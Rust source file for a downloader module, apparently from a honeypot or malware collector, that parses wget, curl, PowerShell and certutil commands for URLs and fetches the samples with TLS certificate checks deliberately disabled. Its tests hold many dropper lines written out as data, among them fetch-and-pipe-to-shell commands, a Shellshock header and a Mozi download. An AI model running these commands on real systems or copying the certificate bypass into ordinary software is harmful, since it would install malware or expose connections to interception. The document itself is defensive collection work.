//! The `http` downloader: URLs in shell commands (`wget`, `curl`, `busybox wget`,
//! PowerShell `DownloadFile` / `Invoke-WebRequest` / `iwr`, plain `http(s)://`
//! URLs), fetched over HTTP or HTTPS with `ureq` and rustls (no C library).
//!
//! Certificates are not verified, on purpose: malware is served from hosts with
//! self-signed, expired or mismatched certificates, and refusing them would lose the
//! sample; the connection is only ever used to receive a file that is never trusted.
//!
//! Redirects are followed here, not by the client, so each hop's address goes
//! through the same checks (`max_redirects`). The client resolves names through
//! [`Job::resolve`], so it connects only to a checked address.

use super::command::{self, Command};
use super::{fetch_all, received, Job, Settings, Target};
use crate::analysis::registry::{self, Options, Registration};
use crate::analysis::{Analyzer, Download, Input, InputKind, Output, Stage};
use serde::{Deserialize, Serialize};
use std::net::SocketAddr;
use std::sync::{Arc, Mutex, OnceLock};
use url::Url;

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct HttpOptions {
    pub enabled: bool,
    /// Redirects followed at most (each hop checked).
    pub max_redirects: u32,
    /// The User-Agent sent (many malware hosts serve only to wget or curl).
    pub user_agent: String,
}

impl Default for HttpOptions {
    fn default() -> Self {
        HttpOptions {
            enabled: true,
            max_redirects: 5,
            user_agent: "Wget/1.21.3".into(),
        }
    }
}

impl Options for HttpOptions {
    fn enabled(&self) -> bool {
        self.enabled
    }
}

pub fn registration() -> Registration {
    Registration {
        name: "http",
        stage: Stage::Analyze,
        about: "fetches http(s):// URLs from wget, curl, PowerShell and plain URLs",
        options: |table| {
            let o: HttpOptions = registry::parse(table)?;
            if o.max_redirects > 20 {
                return Err(("max_redirects".into(), "must be at most 20".into()));
            }
            registry::options::<HttpOptions>(table)
        },
        build: |table, config| {
            let settings = Settings::from_config(config)?;
            registry::build_with(table, |o: HttpOptions| {
                Ok(Http {
                    settings,
                    options: o,
                })
            })
        },
    }
}

pub struct Http {
    settings: Arc<Settings>,
    options: HttpOptions,
}

/// One URL to fetch.
#[derive(Debug, Clone, PartialEq)]
pub struct HttpTarget {
    pub url: Url,
    pub user: Option<String>,
    pub password: Option<String>,
}

impl Target for HttpTarget {
    fn url(&self) -> String {
        self.url.to_string()
    }
    fn record(&self) -> Download {
        let mut d = Download::new(
            "http",
            self.url.to_string(),
            self.url.host_str().unwrap_or("").to_string(),
            self.url.port_or_known_default().unwrap_or(80),
        );
        d.user = self.user.clone();
        d.password = self.password.clone();
        d
    }
}

impl Analyzer for Http {
    fn name(&self) -> &'static str {
        "http"
    }
    fn stage(&self) -> Stage {
        Stage::Analyze
    }
    fn accepts(&self, _: InputKind) -> bool {
        true
    }
    fn run(&self, input: &Input, out: &mut Output) -> anyhow::Result<()> {
        // Every URL or command this parser understands contains one of these.
        let targets = command::instructions(input, &["http", "wget", "curl"], parse);
        fetch_all(&self.settings, input, targets, out, |t, job, d| {
            self.fetch(t, job, d)
        });
        Ok(())
    }
}

impl Http {
    fn fetch(&self, t: &HttpTarget, job: &Job, d: &mut Download) -> Result<(), String> {
        let mut url = t.url.clone();
        for _hop in 0..=self.options.max_redirects {
            let contacted: Arc<Mutex<Option<SocketAddr>>> = Arc::default();
            let agent = self.agent(job, Arc::clone(&contacted))?;
            let mut req = agent.request_url("GET", &url);
            if let Some(user) = &t.user {
                use base64::Engine as _;
                let pass = t.password.as_deref().unwrap_or("");
                let token =
                    base64::engine::general_purpose::STANDARD.encode(format!("{user}:{pass}"));
                req = req.set("Authorization", &format!("Basic {token}"));
            }
            let result = req.call();
            if let Some(a) = *contacted.lock().unwrap() {
                d.host = a.ip().to_string();
                d.port = a.port();
            }
            let resp = match result {
                Ok(r) => r,
                Err(ureq::Error::Status(code, _)) => return Err(format!("HTTP status {code}")),
                Err(ureq::Error::Transport(e)) => return Err(transport_error(&e)),
            };
            if (300..400).contains(&resp.status()) {
                let Some(loc) = resp.header("location") else {
                    return Err(format!("HTTP status {} without Location", resp.status()));
                };
                url = url
                    .join(loc)
                    .map_err(|e| format!("bad redirect `{loc}`: {e}"))?;
                if !matches!(url.scheme(), "http" | "https") {
                    return Err(format!("redirect to a {} URL", url.scheme()));
                }
                continue;
            }
            let (data, truncated) = job
                .read_capped(&mut resp.into_reader())
                .map_err(|e| format!("reading the body: {e}"))?;
            received(d, data, truncated);
            return Ok(());
        }
        Err(format!(
            "more than {} redirects",
            self.options.max_redirects
        ))
    }

    /// A one-off agent: no pooling, no proxy, the time left as its overall
    /// timeout, names resolved and checked by the job.
    fn agent(
        &self,
        job: &Job,
        contacted: Arc<Mutex<Option<SocketAddr>>>,
    ) -> Result<ureq::Agent, String> {
        let left = job.left().map_err(|e| e.to_string())?;
        let settings = job.settings.clone();
        let attacker = job.attacker;
        let deadline = job.deadline;
        let resolver = move |netloc: &str| -> std::io::Result<Vec<SocketAddr>> {
            let (host, port) = netloc
                .rsplit_once(':')
                .and_then(|(h, p)| Some((h, p.parse::<u16>().ok()?)))
                .ok_or_else(|| std::io::Error::other(format!("bad address {netloc}")))?;
            let job = Job {
                settings: &settings,
                attacker,
                deadline,
            };
            let addr = job.resolve(host, port).map_err(std::io::Error::other)?;
            *contacted.lock().unwrap() = Some(addr);
            Ok(vec![addr])
        };
        Ok(ureq::AgentBuilder::new()
            .resolver(resolver)
            .redirects(0)
            .timeout(left)
            .max_idle_connections(0)
            .try_proxy_from_env(false)
            .user_agent(&self.options.user_agent)
            .tls_config(tls_config())
            .build())
    }
}

fn transport_error(e: &ureq::Transport) -> String {
    // The resolver's refusal is the message worth keeping.
    let mut msg = e.to_string();
    if let Some(src) = std::error::Error::source(e) {
        let s = src.to_string();
        if !msg.contains(&s) {
            msg = format!("{msg}: {s}");
        }
    }
    msg
}

/// rustls configured to accept any certificate (see the module doc); the
/// handshake signatures are still checked.
fn tls_config() -> Arc<rustls::ClientConfig> {
    static CFG: OnceLock<Arc<rustls::ClientConfig>> = OnceLock::new();
    CFG.get_or_init(|| {
        let provider = Arc::new(rustls::crypto::ring::default_provider());
        let cfg = rustls::ClientConfig::builder_with_provider(Arc::clone(&provider))
            .with_safe_default_protocol_versions()
            .expect("ring supports the default versions")
            .dangerous()
            .with_custom_certificate_verifier(Arc::new(AnyCert(provider)))
            .with_no_client_auth();
        Arc::new(cfg)
    })
    .clone()
}

#[derive(Debug)]
struct AnyCert(Arc<rustls::crypto::CryptoProvider>);

impl rustls::client::danger::ServerCertVerifier for AnyCert {
    fn verify_server_cert(
        &self,
        _: &rustls::pki_types::CertificateDer<'_>,
        _: &[rustls::pki_types::CertificateDer<'_>],
        _: &rustls::pki_types::ServerName<'_>,
        _: &[u8],
        _: rustls::pki_types::UnixTime,
    ) -> Result<rustls::client::danger::ServerCertVerified, rustls::Error> {
        Ok(rustls::client::danger::ServerCertVerified::assertion())
    }
    fn verify_tls12_signature(
        &self,
        message: &[u8],
        cert: &rustls::pki_types::CertificateDer<'_>,
        dss: &rustls::DigitallySignedStruct,
    ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
        rustls::crypto::verify_tls12_signature(
            message,
            cert,
            dss,
            &self.0.signature_verification_algorithms,
        )
    }
    fn verify_tls13_signature(
        &self,
        message: &[u8],
        cert: &rustls::pki_types::CertificateDer<'_>,
        dss: &rustls::DigitallySignedStruct,
    ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
        rustls::crypto::verify_tls13_signature(
            message,
            cert,
            dss,
            &self.0.signature_verification_algorithms,
        )
    }
    fn supported_verify_schemes(&self) -> Vec<rustls::SignatureScheme> {
        self.0.signature_verification_algorithms.supported_schemes()
    }
}

/// Options of wget and curl that take a value (so the value is not a URL).
const VALUE_OPTIONS: &[&str] = &[
    // wget
    "-O",
    "-o",
    "-P",
    "-U",
    "-e",
    "-t",
    "-T",
    "-a",
    "-i",
    "-B",
    "-w",
    "-Y",
    "-Q",
    "-l",
    "-A",
    "-R",
    "-D",
    "-I",
    "-X",
    "--output-document",
    "--user-agent",
    "--header",
    "--tries",
    "--timeout",
    "--directory-prefix",
    "--user",
    "--password",
    "--http-user",
    "--http-password",
    "--post-data",
    "--referer",
    "--bind-address",
    // curl
    "-H",
    "-u",
    "-d",
    "-x",
    "-b",
    "-c",
    "-m",
    "-r",
    "-F",
    "-E",
    "-K",
    "-C",
    "--output",
    "--data",
    "--request",
    "--max-time",
    "--connect-timeout",
    "--retry",
    "--proxy",
    "--cookie",
    "--cert",
    "--config",
    "--data-binary",
    "--form",
    "--write-out",
];

/// Every HTTP(S) URL in `text`: plain URLs, and scheme-less arguments of `wget`
/// and `curl` (`wget 1.2.3.4/x.sh`). Credentials come from the URL or from
/// `curl -u user:pass` / `wget --user= --password=`.
pub fn parse(text: &str) -> Vec<HttpTarget> {
    let mut out: Vec<HttpTarget> = Vec::new();
    for (start, raw) in plain_urls(text) {
        if skipped_context(text, start) {
            continue;
        }
        if let Some(t) = target(&raw, None) {
            push(&mut out, t);
        }
    }
    for c in command::commands(text) {
        for (t, had_scheme) in from_command(&c) {
            // A URL with a scheme was found above (the lexer may have cut it at
            // an `&`): from the command it only adds credentials.
            if !had_scheme || out.iter().any(|o| o.url == t.url) {
                push(&mut out, t);
            }
        }
    }
    out
}

fn push(out: &mut Vec<HttpTarget>, t: HttpTarget) {
    if let Some(same) = out.iter_mut().find(|o| o.url == t.url) {
        if same.user.is_none() {
            same.user = t.user;
            same.password = t.password;
        }
    } else {
        out.push(t);
    }
}

/// `wget`/`curl` arguments: URLs (with whether they had a scheme) and credentials.
fn from_command(c: &Command) -> Vec<(HttpTarget, bool)> {
    let (prog, args) = c.program();
    if !matches!(prog.as_str(), "wget" | "curl") {
        return Vec::new();
    }
    let (mut user, mut password) = (None, None);
    let mut urls = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let a = &args[i];
        let (opt, inline) = match a.split_once('=') {
            Some((o, v)) if a.starts_with("--") => (o, Some(v.to_string())),
            _ => (a.as_str(), None),
        };
        if opt.starts_with('-') && opt.len() > 1 {
            let takes = VALUE_OPTIONS.contains(&opt);
            let value = match (&inline, takes) {
                (Some(v), _) => Some(v.clone()),
                (None, true) => {
                    i += 1;
                    args.get(i).cloned()
                }
                _ => None,
            };
            match (prog.as_str(), opt, value) {
                ("curl", "-u" | "--user", Some(v)) => {
                    let (u, p) = v.split_once(':').unwrap_or((&v, ""));
                    user = Some(u.to_string());
                    password = Some(p.to_string());
                }
                ("wget", "--user" | "--http-user", Some(v)) => user = Some(v),
                ("wget", "--password" | "--http-password", Some(v)) => password = Some(v),
                _ => {}
            }
        } else if !command::is_redirect(a) {
            urls.push(a.clone());
        }
        i += 1;
    }
    urls.iter()
        .filter_map(|u| {
            let lower = u.to_ascii_lowercase();
            if lower.contains("://") {
                if lower.starts_with("http://") || lower.starts_with("https://") {
                    target(u, user.clone().map(|u| (u, password.clone()))).map(|t| (t, true))
                } else {
                    None
                }
            } else {
                let host = u.split(['/', ':']).next().unwrap_or("");
                if !command::is_host(host) {
                    return None;
                }
                target(
                    &format!("http://{u}"),
                    user.clone().map(|u| (u, password.clone())),
                )
                .map(|t| (t, false))
            }
        })
        .collect()
}

/// A parsed, plausible HTTP(S) URL.
fn target(raw: &str, creds: Option<(String, Option<String>)>) -> Option<HttpTarget> {
    let mut url = Url::parse(raw).ok()?;
    if !matches!(url.scheme(), "http" | "https") {
        return None;
    }
    let host = url.host_str()?.to_string();
    if !command::is_host(&host) {
        return None;
    }
    let mut user = (!url.username().is_empty()).then(|| decode(url.username()));
    let mut password = url.password().map(decode);
    if user.is_none() {
        if let Some((u, p)) = creds {
            user = Some(u);
            password = p;
        }
    }
    let _ = url.set_username("");
    let _ = url.set_password(None);
    url.set_fragment(None);
    Some(HttpTarget {
        url,
        user,
        password,
    })
}

fn decode(s: &str) -> String {
    url::form_urlencoded::parse(format!("x={s}").as_bytes())
        .next()
        .map(|(_, v)| v.into_owned())
        .unwrap_or_else(|| s.to_string())
}

/// `(offset, url)` of every `http://` and `https://` in `text`. A URL ends at
/// whitespace, quotes, `<>()|;\` + and backticks, and at an `&` that does not
/// start a `name=value` query parameter (in a command line it separates commands).
pub fn plain_urls(text: &str) -> Vec<(usize, String)> {
    let lower = text.to_ascii_lowercase();
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(pos) = lower[from..].find("http") {
        let start = from + pos;
        from = start + 4;
        let rest = &lower[start..];
        if !(rest.starts_with("http://") || rest.starts_with("https://")) {
            continue;
        }
        let bytes = text.as_bytes();
        let mut end = start;
        while end < bytes.len() {
            let c = bytes[end];
            let stop = c.is_ascii_whitespace()
                || c.is_ascii_control()
                || b"\"'<>()|;\\`+{}^".contains(&c)
                || (c == b'&' && !query_param_follows(&text[end + 1..]));
            if stop {
                break;
            }
            end += 1;
        }
        let url = text[start..end].trim_end_matches(['.', ',', ':', '!', '?']);
        if url.len() > "https://".len() {
            out.push((start, url.to_string()));
        }
        from = end.max(from);
    }
    out
}

fn query_param_follows(s: &str) -> bool {
    let name: String = s
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || *c == '_' || *c == '-' || *c == '.')
        .collect();
    !name.is_empty() && s[name.len()..].starts_with('=')
}

/// URLs that are not download instructions: the target of an HTTP request line
/// (`GET http://x/ HTTP/1.1`, proxy probes), `Referer`/`Origin`/`Link` headers,
/// XML namespaces and document types.
fn skipped_context(text: &str, start: usize) -> bool {
    let line_start = text[..start].rfind('\n').map_or(0, |i| i + 1);
    let before = &text[line_start..start];
    let method = before.trim_end();
    if before.ends_with(' ')
        && !method.is_empty()
        && method.len() <= 10
        && method.chars().all(|c| c.is_ascii_uppercase())
    {
        return true;
    }
    let lower = before.to_ascii_lowercase();
    if ["referer:", "origin:", "link:", "host:"]
        .iter()
        .any(|h| lower.trim_start().starts_with(h))
    {
        return true;
    }
    let near = lower.trim_end_matches(['"', '\'', '=', ' ']);
    let last_word = near.rsplit([' ', '<', '"', '\'']).next().unwrap_or("");
    last_word.starts_with("xmlns") || lower.contains("<!doctype")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn urls(text: &str) -> Vec<String> {
        parse(text).into_iter().map(|t| t.url.to_string()).collect()
    }

    #[test]
    fn real_world_command_lines() {
        let cases: &[(&str, &[&str])] = &[
            (
                "cd /tmp || cd /var/run; wget http://185.1.2.3/bins.sh; chmod 777 bins.sh; sh bins.sh",
                &["http://185.1.2.3/bins.sh"],
            ),
            (
                "/bin/busybox wget http://45.9.8.7:8080/x86 -O /tmp/x86; /bin/busybox chmod 777 /tmp/x86",
                &["http://45.9.8.7:8080/x86"],
            ),
            (
                "curl -s -L -k https://evil.example.com/a.sh | bash",
                &["https://evil.example.com/a.sh"],
            ),
            ("wget -qO- 1.2.3.4/x.sh|sh", &["http://1.2.3.4/x.sh"]),
            ("curl -o /tmp/a -A Mozilla 5.6.7.8:81/a", &["http://5.6.7.8:81/a"]),
            (
                "powershell -c \"(New-Object Net.WebClient).DownloadFile('http://1.2.3.4/p.exe','C:\\\\p.exe')\"",
                &["http://1.2.3.4/p.exe"],
            ),
            (
                "powershell.exe Invoke-WebRequest -Uri https://x.example.net/s.ps1 -OutFile s.ps1",
                &["https://x.example.net/s.ps1"],
            ),
            ("iwr http://9.9.9.9/a.exe -o a.exe;", &["http://9.9.9.9/a.exe"]),
            (
                "GET /shell?cd+/tmp;wget+http://1.2.3.4/Mozi.m+-O+/tmp/n;sh+/tmp/n HTTP/1.1",
                &["http://1.2.3.4/Mozi.m"],
            ),
            (
                "User-Agent: () { :; }; /bin/bash -c \"wget http://2.3.4.5/s -O /tmp/s\"",
                &["http://2.3.4.5/s"],
            ),
            (
                "wget http://a.example.org/x.php?id=1&arch=mips&&sh x",
                &["http://a.example.org/x.php?id=1&arch=mips"],
            ),
            ("$(wget http://6.6.6.6/y)", &["http://6.6.6.6/y"]),
            (
                "curl -u bob:s3cret http://7.7.7.7/z",
                &["http://7.7.7.7/z"],
            ),
            ("wget http://1.2.3.4/a.sh.", &["http://1.2.3.4/a.sh"]),
            (
                "cmd /c certutil -urlcache -f http://3.3.3.3/c.exe c.exe&c.exe",
                &["http://3.3.3.3/c.exe"],
            ),
        ];
        for (text, want) in cases {
            assert_eq!(urls(text), *want, "{text}");
        }
    }

    #[test]
    fn not_instructions() {
        for text in [
            "GET http://proxy-check.example.com/ HTTP/1.1\r\nHost: x\r\n",
            "POST / HTTP/1.1\r\nReferer: http://a.example.com/\r\nOrigin: http://b.example.com\r\n",
            "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\">",
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
            "wget -O x",
            "curl $IP/x",
            "http://",
            "wget ftp://1.2.3.4/x",
        ] {
            assert!(urls(text).is_empty(), "{text}: {:?}", urls(text));
        }
    }

    #[test]
    fn credentials() {
        let t = &parse("curl -u bob:s3cret http://7.7.7.7/z")[0];
        assert_eq!(
            (t.user.as_deref(), t.password.as_deref()),
            (Some("bob"), Some("s3cret"))
        );
        let t = &parse("wget --user=al --password=pw http://7.7.7.7/z")[0];
        assert_eq!(
            (t.user.as_deref(), t.password.as_deref()),
            (Some("al"), Some("pw"))
        );
        let t = &parse("wget http://u%40x:p%20w@7.7.7.7/z")[0];
        assert_eq!(t.url.as_str(), "http://7.7.7.7/z");
        assert_eq!(
            (t.user.as_deref(), t.password.as_deref()),
            (Some("u@x"), Some("p w"))
        );
    }

    /// A one-thread HTTP server on loopback answering `conns` requests with
    /// `reply(path)`.
    fn server(conns: usize, reply: fn(&str) -> Vec<u8>) -> u16 {
        use std::io::{BufRead, Write};
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        std::thread::spawn(move || {
            for _ in 0..conns {
                let Ok((s, _)) = l.accept() else { return };
                let mut r = std::io::BufReader::new(s.try_clone().unwrap());
                let mut line = String::new();
                r.read_line(&mut line).unwrap();
                let path = line.split(' ').nth(1).unwrap_or("").to_string();
                loop {
                    let mut h = String::new();
                    if r.read_line(&mut h).unwrap_or(0) <= 2 {
                        break;
                    }
                }
                let _ = (&s).write_all(&reply(&path));
            }
        });
        port
    }

    fn http(max_redirects: u32, max_size: u64) -> Http {
        let dir = std::env::temp_dir();
        Http {
            settings: super::super::testing::settings(max_size, &dir),
            options: HttpOptions {
                max_redirects,
                ..HttpOptions::default()
            },
        }
    }

    fn reply(path: &str) -> Vec<u8> {
        match path {
            "/file" => b"HTTP/1.1 200 OK\r\nContent-Length: 11\r\n\r\nhello world".to_vec(),
            "/redir" => {
                b"HTTP/1.1 302 Found\r\nLocation: /file\r\nContent-Length: 0\r\n\r\n".to_vec()
            }
            "/away" => {
                b"HTTP/1.1 301 Moved\r\nLocation: http://10.1.2.3/x\r\nContent-Length: 0\r\n\r\n"
                    .to_vec()
            }
            "/loop" => {
                b"HTTP/1.1 302 Found\r\nLocation: /loop\r\nContent-Length: 0\r\n\r\n".to_vec()
            }
            _ => b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n".to_vec(),
        }
    }

    #[test]
    fn fetch_redirects_caps_and_refusals() {
        use super::super::testing::{attack, run};
        let a = attack("203.0.113.5:4000");
        // A redirect, followed, then the file.
        let port = server(2, reply);
        let d = run(
            &http(5, 100),
            &a,
            format!("wget http://127.0.0.1:{port}/redir").as_bytes(),
        );
        assert_eq!(d.len(), 1);
        assert_eq!(d[0].error, None);
        assert_eq!(
            d[0].data.as_deref().map(|v| v.as_slice()),
            Some(&b"hello world"[..])
        );
        assert_eq!((d[0].host.as_str(), d[0].port), ("127.0.0.1", port));
        // Cut at the size cap.
        let port = server(1, reply);
        let d = run(
            &http(5, 5),
            &a,
            format!("curl http://127.0.0.1:{port}/file").as_bytes(),
        );
        assert_eq!((d[0].size, d[0].truncated), (5, true));
        // A redirect to a forbidden address is refused before connecting.
        let port = server(1, reply);
        let d = run(
            &http(5, 100),
            &a,
            format!("wget http://127.0.0.1:{port}/away").as_bytes(),
        );
        assert!(
            d[0].error.as_deref().unwrap().contains("refused"),
            "{:?}",
            d[0].error
        );
        // Too many redirects; a 404 is an error.
        let port = server(3, reply);
        let d = run(
            &http(2, 100),
            &a,
            format!("wget http://127.0.0.1:{port}/loop").as_bytes(),
        );
        assert!(
            d[0].error.as_deref().unwrap().contains("redirects"),
            "{:?}",
            d[0].error
        );
        let port = server(1, reply);
        let d = run(
            &http(2, 100),
            &a,
            format!("wget http://127.0.0.1:{port}/nope").as_bytes(),
        );
        assert_eq!(d[0].error.as_deref(), Some("HTTP status 404"));
        assert!(d[0].hashes.is_none());
    }

    #[test]
    fn odd_ip_spellings_are_normalised() {
        // The address checks see the real address, not the spelling.
        assert_eq!(urls("wget http://0x7f000001/x"), ["http://127.0.0.1/x"]);
        assert_eq!(urls("wget http://2130706433/x"), ["http://127.0.0.1/x"]);
    }
}
